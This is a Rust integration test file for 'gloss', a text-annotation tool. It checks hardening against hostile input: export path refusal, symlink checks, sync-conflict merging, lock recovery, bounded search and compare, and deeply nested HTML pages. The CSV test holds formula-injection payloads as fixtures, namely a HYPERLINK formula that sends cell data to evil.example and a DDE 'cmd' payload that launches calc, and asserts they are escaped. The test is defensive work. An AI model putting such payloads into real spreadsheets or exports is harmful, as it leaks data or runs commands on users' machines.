//! The doors a hostile or unlucky corpus opened in the newer surfaces (kept versions, sync
//! tools, compare, search, web pages, CSV, import), each tried from outside as a user or a
//! script meets it: through the `gloss` command and the workspace the window holds.

use std::path::Path;
use std::process::{Command as Process, Output};

use gloss::annotation::{Annotation, Color};
use gloss::notebook::Command;
use gloss::workspace::Workspace;

fn gloss(dir: &Path, args: &[&str]) -> Output {
    let (command, rest) = args.split_first().unwrap();
    Process::new(env!("CARGO_BIN_EXE_gloss"))
        .arg(command)
        .arg("--corpus")
        .arg(dir)
        .args(rest)
        .output()
        .unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// `gloss import FILE [ARGS]` into `dir`, with `json` written beside the corpus: the exit
/// status and all it said.
fn import(dir: &Path, json: &serde_json::Value, args: &[&str]) -> (Option<i32>, String) {
    let file = dir.with_extension("import.json");
    std::fs::write(&file, serde_json::to_vec(json).unwrap()).unwrap();
    let mut all = vec!["import", file.to_str().unwrap()];
    all.extend_from_slice(args);
    let out = gloss(dir, &all);
    let _ = std::fs::remove_file(&file);
    (
        out.status.code(),
        format!("{}{}", stdout(&out), stderr(&out)),
    )
}

const ARTICLE: &str = "Talks in Moscow\n\nThe foreign secretary met his counterpart on Tuesday.\n\n\
                       Both sides described the meeting as frank.\n";

/// A corpus with one article and annotations made through the workspace, saved.
fn corpus_with(notes: &[(&str, &str, &[&str])]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), ARTICLE).unwrap();
    let mut ws = Workspace::open(dir.path()).unwrap();
    for (phrase, note, tags) in notes {
        let article = ws.corpus.article("a.txt").unwrap().clone();
        let at = ARTICLE.find(phrase).unwrap();
        let start = ARTICLE[..at].chars().count();
        let mut a = Annotation::new(
            &article,
            start..start + phrase.chars().count(),
            Color::Yellow,
        );
        a.note = (*note).into();
        a.tags = tags.iter().map(|t| (*t).to_owned()).collect();
        ws.apply(Command::create(a)).unwrap();
    }
    ws.save().unwrap();
    dir
}

/// Door 4: an export never lands on gloss's own files under `.gloss/`, not even with --force.
#[test]
fn export_refuses_every_path_under_the_gloss_folder() {
    let dir = corpus_with(&[("frank", "", &[])]);
    std::fs::create_dir_all(dir.path().join(".gloss/versions")).unwrap();
    let index = dir.path().join(".gloss/versions/index.ron");
    std::fs::write(&index, "(versions: [])").unwrap();
    for target in [
        index.clone(),
        dir.path().join(".gloss/base.ron"),
        dir.path().join(".gloss/anything-new.json"),
        dir.path().join("sub/../.gloss/versions/index.ron"),
    ] {
        for force in [false, true] {
            let mut args = vec!["export", "--format", "w3c", "-o", target.to_str().unwrap()];
            if force {
                args.push("--force");
            }
            let out = gloss(dir.path(), &args);
            assert_eq!(
                out.status.code(),
                Some(2),
                "{target:?} {force}: {}",
                stderr(&out)
            );
            assert!(stderr(&out).contains(".gloss"), "{}", stderr(&out));
        }
    }
    assert_eq!(std::fs::read_to_string(&index).unwrap(), "(versions: [])");
}

/// Door 6: cells a spreadsheet would run as formulas are written as text (a leading ').
#[test]
fn csv_cells_that_look_like_formulas_are_neutralised() {
    let evil_note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let evil_tag = "+cmd|' /C calc'!A0";
    let dir = corpus_with(&[
        ("frank", evil_note, &[evil_tag, "@SUM(1)"]),
        ("Tuesday", "-2+3", &["fine"]),
    ]);
    let out = gloss(dir.path(), &["export", "--format", "csv"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let risky = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    for row in &rows {
        for cell in row.iter() {
            assert!(!risky(cell), "a formula cell: {cell:?}");
        }
    }
    let notes: Vec<&str> = rows.iter().map(|r| &r[7]).collect();
    assert!(
        notes.contains(&format!("'{evil_note}").as_str()),
        "{notes:?}"
    );
    assert!(notes.contains(&"'-2+3"), "{notes:?}");
    let tags: Vec<&str> = rows.iter().map(|r| &r[5]).collect();
    assert!(
        tags.iter().any(|t| t.contains(&format!("'{evil_tag}"))),
        "{tags:?}"
    );
    let grid = gloss(dir.path(), &["export", "--format", "grid"]);
    let mut reader = csv::Reader::from_reader(&grid.stdout[..]);
    for row in reader.records() {
        let row = row.unwrap();
        assert!(!risky(&row[0]), "grid tag {:?}", &row[0]);
    }
}

/// Door 13: a W3C file without ids imported twice gives each highlight once.
#[test]
fn importing_the_same_file_without_ids_twice_adds_nothing_the_second_time() {
    let dir = corpus_with(&[("frank", "a note", &["tag"]), ("Tuesday", "", &[])]);
    let out = gloss(dir.path(), &["export", "--format", "w3c"]);
    let mut json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    fn strip_ids(v: &mut serde_json::Value) {
        match v {
            serde_json::Value::Object(m) => {
                m.remove("id");
                m.values_mut().for_each(strip_ids);
            }
            serde_json::Value::Array(a) => a.iter_mut().for_each(strip_ids),
            _ => {}
        }
    }
    strip_ids(&mut json);
    let fresh = tempfile::tempdir().unwrap();
    std::fs::write(fresh.path().join("a.txt"), ARTICLE).unwrap();
    let (first, said) = import(fresh.path(), &json, &[]);
    assert_eq!(first, Some(0), "{said}");
    let (second, said) = import(fresh.path(), &json, &[]);
    assert_eq!(second, Some(0), "{said}");
    assert!(said.contains("2 already present"), "{said}");
    let ws = Workspace::open_read_only(fresh.path()).unwrap();
    assert_eq!(ws.notebook().annotations().len(), 2);
}

/// Door 15: a tag over the limit is not taken, on import or through the notebook.
#[test]
fn a_tag_over_the_limit_is_refused_with_a_message() {
    let dir = corpus_with(&[("frank", "", &[])]);
    let mut ws = Workspace::open(dir.path()).unwrap();
    let id = ws.notebook().annotations()[0].id.clone();
    let long = "x".repeat(gloss::limits::MAX_TAG_CHARS + 1);
    let refused = ws
        .apply(Command::SetTags {
            id: id.clone(),
            tags: vec![long.clone()],
        })
        .unwrap_err();
    assert!(refused.to_string().contains("at most 200"), "{refused}");
    let ok = "y".repeat(gloss::limits::MAX_TAG_CHARS);
    ws.apply(Command::SetTags { id, tags: vec![ok] }).unwrap();
    drop(ws);
    // On import.
    let hyp = serde_json::json!([{
        "uri": "a.txt",
        "text": "",
        "tags": ["x".repeat(30_000)],
        "target": [{"selector": [{"type": "TextQuoteSelector", "exact": "Tuesday"}]}]
    }]);
    let (_, said) = import(dir.path(), &hyp, &["--article", "a.txt"]);
    assert!(
        said.contains("NOT TAKEN") && said.contains("tag over 200"),
        "{said}"
    );
    let ws = Workspace::open_read_only(dir.path()).unwrap();
    assert_eq!(ws.notebook().annotations().len(), 1);
}

/// Door 2: a note that exists only in a sync tool's conflict copy shows, the copy moves to
/// `.gloss/merged/`, and the reader is told. As Syncthing does it: the laptop's newer file
/// became `annotations.ron`, this machine's own last save became the copy.
#[test]
fn a_sync_conflict_copy_is_merged_moved_and_reported() {
    let dir = corpus_with(&[("frank", "first", &[])]);
    let mut ws = Workspace::open(dir.path()).unwrap();
    let id = ws.notebook().annotations()[0].id.clone();
    ws.apply(Command::SetNote {
        id: id.clone(),
        note: "desktop edit".into(),
    })
    .unwrap();
    ws.save().unwrap();
    drop(ws);
    let desktop = std::fs::read(dir.path().join("annotations.ron")).unwrap();
    // The laptop edited the same note from "first" and added one of its own.
    let laptop = corpus_with(&[("Tuesday", "only on the laptop", &[])]);
    let mut theirs = gloss::store::load_notes(&laptop.path().join("annotations.ron")).unwrap();
    let mut edited = gloss::store::load_notes(&dir.path().join("annotations.ron"))
        .unwrap()
        .annotations[0]
        .clone();
    edited.note = "laptop edit".into();
    edited.modified = jiff::Timestamp::now();
    theirs.annotations.push(edited);
    let name = "annotations.sync-conflict-20261205-123456-ABCDEFG.ron";
    std::fs::write(dir.path().join(name), desktop).unwrap();
    std::fs::write(
        dir.path().join("annotations.ron"),
        gloss::store::serialise_notes(&theirs),
    )
    .unwrap();

    // gloss check (read-only) reports it and shows its notes, moving nothing.
    let check = gloss(dir.path(), &["check"]);
    let said = stdout(&check);
    assert!(said.contains("Syncthing conflict copy"), "{said}");
    assert!(!said.contains("no problems"), "{said}");
    assert!(dir.path().join(name).exists());

    let ws = Workspace::open(dir.path()).unwrap();
    let notes: Vec<String> = ws
        .notebook()
        .annotations()
        .iter()
        .map(|a| a.note.clone())
        .collect();
    assert!(
        notes.contains(&"only on the laptop".to_owned()),
        "{notes:?}"
    );
    let both = notes.iter().find(|n| n.contains("laptop edit")).unwrap();
    assert!(both.contains("desktop edit"), "both texts kept: {both}");
    let report = ws
        .sync_merges
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        report.contains("1 annotation merged from a Syncthing conflict copy"),
        "{report}"
    );
    assert!(!dir.path().join(name).exists());
    assert!(dir.path().join(".gloss/merged").join(name).exists());
    drop(ws);
    // Saved: a plain reopen has both, and nothing more to merge.
    let again = Workspace::open(dir.path()).unwrap();
    assert_eq!(again.notebook().annotations().len(), 2);
    assert!(again.sync_merges.is_empty());
}

/// Door 2: a copy that cannot be read is reported and left alone.
#[test]
fn an_unreadable_sync_copy_is_reported_and_left_where_it_is() {
    let dir = corpus_with(&[("frank", "", &[])]);
    let name = "annotations (Jane's conflicted copy 2026-12-05).ron";
    std::fs::write(dir.path().join(name), "(version: 3, annotations: [ broken").unwrap();
    let ws = Workspace::open(dir.path()).unwrap();
    let report = ws
        .sync_merges
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        report.contains("Dropbox") && report.contains("cannot be read"),
        "{report}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join(name)).unwrap(),
        "(version: 3, annotations: [ broken"
    );
}

/// Door 3: the corpus folder removed and restored while the window runs: the workspace
/// notices, takes the lock again, and `gloss import` is refused as before (exit 3).
#[cfg(unix)]
#[test]
fn the_lock_is_taken_again_after_the_folder_is_removed_and_restored() {
    let parent = tempfile::tempdir().unwrap();
    let corpus = parent.path().join("corpus");
    std::fs::create_dir(&corpus).unwrap();
    std::fs::write(corpus.join("a.txt"), ARTICLE).unwrap();
    let mut ws = Workspace::open(&corpus).unwrap();
    assert!(ws.check_lock().is_none());
    // Removed (to a backup) and restored as a copy.
    std::fs::rename(&corpus, parent.path().join("old")).unwrap();
    std::fs::create_dir(&corpus).unwrap();
    for e in std::fs::read_dir(parent.path().join("old"))
        .unwrap()
        .flatten()
    {
        if e.file_type().unwrap().is_file() {
            std::fs::copy(e.path(), corpus.join(e.file_name())).unwrap();
        }
    }
    let said = ws.check_lock().expect("the replaced lock is noticed");
    assert!(said.contains("lock again"), "{said}");
    assert!(ws.can_annotate());
    let hyp = serde_json::json!([{
        "uri": "a.txt",
        "text": "n",
        "target": [{"selector": [{"type": "TextQuoteSelector", "exact": "Tuesday"}]}]
    }]);
    let (status, said) = import(&corpus, &hyp, &["--article", "a.txt"]);
    assert_eq!(status, Some(3), "{said}");
}

/// Door 3: when another gloss took the new lock first, the window goes read-only.
#[cfg(unix)]
#[test]
fn a_lock_taken_by_another_meanwhile_makes_the_workspace_read_only() {
    let parent = tempfile::tempdir().unwrap();
    let corpus = parent.path().join("corpus");
    std::fs::create_dir(&corpus).unwrap();
    std::fs::write(corpus.join("a.txt"), ARTICLE).unwrap();
    let mut ws = Workspace::open(&corpus).unwrap();
    std::fs::rename(&corpus, parent.path().join("old")).unwrap();
    std::fs::create_dir(&corpus).unwrap();
    std::fs::write(corpus.join("a.txt"), ARTICLE).unwrap();
    let other = gloss::store::lock::CorpusLock::acquire(&corpus).unwrap();
    let said = ws.check_lock().expect("noticed");
    assert!(!ws.can_annotate(), "{said}");
    assert!(said.contains("replaced"), "{said}");
    drop(other);
}

/// Door 16 (and 1): `gloss check` reports every link gloss refuses — in place of `.gloss`,
/// of the lock file, of the backup — not "no problems".
#[cfg(unix)]
#[test]
fn check_reports_every_link_it_refuses() {
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(elsewhere.path().join("versions")).unwrap();
    std::fs::write(
        elsewhere.path().join("versions/index.ron"),
        "(versions: [])",
    )
    .unwrap();
    let cases: [(&str, &Path); 3] = [
        (".gloss", elsewhere.path()),
        (".gloss.lock", &elsewhere.path().join("lock")),
        ("annotations.ron.bak", &elsewhere.path().join("bak")),
    ];
    for (name, target) in cases {
        let dir = corpus_with(&[("frank", "", &[])]);
        let _ = std::fs::remove_file(dir.path().join(name));
        let _ = std::fs::remove_dir_all(dir.path().join(name));
        std::os::unix::fs::symlink(target, dir.path().join(name)).unwrap();
        let out = gloss(dir.path(), &["check"]);
        let said = stdout(&out);
        assert!(!said.contains("no problems"), "{name}: {said}");
        assert!(said.contains("symbolic link"), "{name}: {said}");
        assert_ne!(out.status.code(), Some(0), "{name}");
    }
    // And the versions index there was neither read nor rewritten.
    assert_eq!(
        std::fs::read_to_string(elsewhere.path().join("versions/index.ron")).unwrap(),
        "(versions: [])"
    );
}

/// Door 12: a saved page in windows-1251 or Shift_JIS is read in its declared charset.
#[test]
fn a_page_in_a_declared_legacy_charset_reads_as_its_words() {
    let dir = tempfile::tempdir().unwrap();
    let page = |charset: &str, body: &[u8]| {
        let mut out = format!(
            "<html><head><meta charset=\"{charset}\"><title>t</title></head><body><article><p>"
        )
        .into_bytes();
        out.extend_from_slice(body);
        out.extend_from_slice(b"</p></article></body></html>");
        out
    };
    let (ru, _, _) = encoding_rs::WINDOWS_1251.encode("Министр иностранных дел Сергей Лавров");
    let (ja, _, _) = encoding_rs::SHIFT_JIS.encode("外務大臣が会談した");
    std::fs::write(dir.path().join("ru.html"), page("windows-1251", &ru)).unwrap();
    std::fs::write(dir.path().join("ja.html"), page("Shift_JIS", &ja)).unwrap();
    for (query, article) in [("Лавров", "ru.html"), ("会談", "ja.html")] {
        let out = gloss(dir.path(), &["search", query, "--json"]);
        assert!(out.status.success(), "{}", stderr(&out));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let hits = v["hits"].as_array().unwrap();
        assert_eq!(hits.len(), 1, "{query}: {v}");
        assert_eq!(hits[0]["article"], article);
    }
}

/// Door 10: hits are counted, not all kept; `--limit` and the JSON say so.
#[test]
fn search_keeps_a_bounded_number_of_hits_and_counts_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "a a a a a\n".repeat(1_000)).unwrap();
    std::fs::write(dir.path().join("b.txt"), "a b a b\n".repeat(100)).unwrap();
    let out = gloss(dir.path(), &["search", "a", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["total_hits"], 5_200);
    assert_eq!(v["truncated"], true);
    let hits = v["hits"].as_array().unwrap();
    let in_a = hits.iter().filter(|h| h["article"] == "a.txt").count();
    assert_eq!(in_a, 1_000, "at most 1,000 kept per article");
    assert_eq!(hits.len(), 1_200);
    let out = gloss(dir.path(), &["search", "a", "--json", "--limit", "10"]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["hits"].as_array().unwrap().len(), 20);
    assert_eq!(v["total_hits"], 5_200);
    let text = stdout(&gloss(dir.path(), &["search", "a", "--limit", "10"]));
    assert!(
        text.contains("5200 match(es)") && text.contains("and 5180 more"),
        "{text}"
    );
    let few = gloss(dir.path(), &["search", "b", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&few.stdout).unwrap();
    assert_eq!(v["truncated"], false);
}

/// Door 7: two near-copies of 2 MB compare in bounded memory (the alignment once asked for
/// 78 GB and aborted): run under an address-space cap of 2 GB.
#[cfg(target_os = "linux")]
#[test]
fn comparing_two_large_near_copies_stays_under_a_memory_cap() {
    let dir = tempfile::tempdir().unwrap();
    let words = [
        "minister",
        "talks",
        "Moscow",
        "the",
        "said",
        "sanctions",
        "Lavrov",
        "of",
        "cyber",
        "relations",
        "and",
        "embassy",
        "a",
        "report",
        "officials",
        "to",
        "in",
        "spring",
    ];
    let mut text = String::new();
    let mut seed: u64 = 7;
    while text.len() < 2_000_000 {
        for _ in 0..12 {
            seed = seed
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            text.push_str(words[(seed >> 33) as usize % words.len()]);
            text.push(' ');
            // A number now and then makes the text less repetitive, as real text is.
            if (seed >> 20).is_multiple_of(5) {
                text.push_str(&((seed >> 40) % 100_000).to_string());
                text.push(' ');
            }
        }
        text.push_str(".\n\n");
    }
    let mut near = text.clone();
    near.replace_range(1_000_000..1_000_001, "X");
    std::fs::write(dir.path().join("a.txt"), &text).unwrap();
    std::fs::write(dir.path().join("b.txt"), &near).unwrap();
    let out = Process::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -v 2000000 && exec '{}' compare --corpus '{}' a.txt b.txt --json",
            env!("CARGO_BIN_EXE_gloss"),
            dir.path().display()
        ))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let pairs = v["pairs"].as_array().unwrap();
    let covered: u64 = pairs
        .iter()
        .map(|p| p["a"]["end"].as_u64().unwrap() - p["a"]["start"].as_u64().unwrap())
        .sum();
    assert!(
        covered * 10 >= text.len() as u64 * 9,
        "{covered} of {} chars paired",
        text.len()
    );
}

/// Door 8: one hostile page does not hold up the others or the CLI.
#[test]
fn a_hostile_page_does_not_hold_up_the_corpus() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), ARTICLE).unwrap();
    std::fs::write(
        dir.path().join("evil.html"),
        format!(
            "<html><body>{}words</body></html>",
            "<div/>".repeat(100_000)
        ),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("evil2.html"),
        format!(
            "<html><body>{}words</body></html>",
            "<div></br>".repeat(100_000)
        ),
    )
    .unwrap();
    let started = std::time::Instant::now();
    let out = gloss(dir.path(), &["export", "--format", "markdown"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    let ws = Workspace::open_read_only(dir.path()).unwrap();
    let evil = ws.corpus.article("evil.html").unwrap();
    assert!(evil.text.contains("words"));
    assert!(
        evil.warning.as_deref().is_some_and(|w| w.contains("deep")),
        "{:?}",
        evil.warning
    );
}
